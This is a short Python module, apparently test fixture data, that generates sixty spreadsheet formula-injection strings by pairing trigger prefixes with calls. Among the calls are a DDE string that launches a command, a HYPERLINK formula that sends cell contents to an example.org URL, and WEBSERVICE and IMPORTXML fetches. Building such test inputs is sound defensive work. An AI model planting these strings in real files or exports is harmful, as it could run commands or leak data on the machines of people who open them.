"""Sixty texts that a spreadsheet could take for a formula, a command or a link."""

STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    "\u00a0=",
    "\u3000=",
    "\ufeff=",
    "\u200b=",
    '"=',
    "'=",
    "=+-@",
)
CALLS = (
    "1+1", 'HYPERLINK("https://example.org/?a="&A1;"看")', "cmd|'/c calc'!A1", 'WEBSERVICE("https://example.org")',
    "SUM(A1:A9)", 'DDE("soffice";"a";"b")', "IMPORTXML(A1;A1)", "A1",
)  # fmt: skip
COUNT = 60


def payloads() -> list[str]:
    """All of them, each once."""
    plain = [f"{start}{call}" for call in CALLS[:3] for start in STARTS]
    return [*dict.fromkeys((*(f"={call}" for call in CALLS), "=1+1\n=1+1", "=1+1;=1+1", *plain))][:COUNT]
